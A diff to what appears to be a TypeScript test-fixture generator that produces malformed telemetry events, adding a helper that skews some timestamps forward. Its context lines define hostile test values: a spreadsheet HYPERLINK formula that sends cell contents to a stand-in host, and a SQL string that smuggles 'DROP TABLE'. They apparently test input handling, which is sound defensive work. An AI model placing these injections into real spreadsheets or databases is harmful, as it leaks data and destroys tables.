@@ -61,7 +61,7 @@ export const hostileName = `=HYPERLINK("http://x.example?a"&A1), 'q' \\ \t\n;`
 export const hostileKey = "k'; DROP TABLE `sessions` \\ {x:String} --"
 
 function odd(sent: CollectionEvent, nth: number): object {
-  const body = withoutQuality(sent, nth)
+  const body = withoutQuality(nth % 11 === 5 ? aheadOfTime(sent) : sent, nth)
   const { params = {}, customMetadata = {} } = body as {
     params?: Record<string, unknown>
     customMetadata?: Record<string, string>
@@ -93,6 +93,11 @@ function odd(sent: CollectionEvent, nth: number): object {
     },
     customMetadata: { ...customMetadata, ...(nth % 4 === 0 && { [hostileKey]: `v${nth % 3}`, team: 'red' }) },
   }
+}
+
+/** By a clock that is ten minutes fast. */
+function aheadOfTime(body: CollectionEvent): CollectionEvent {
+  return { ...body, playerTime: { ...body.playerTime, ts: body.playerTime.ts + 600_000 } }
 }
 
 /** Not every player measures how well it plays, or all of it. */
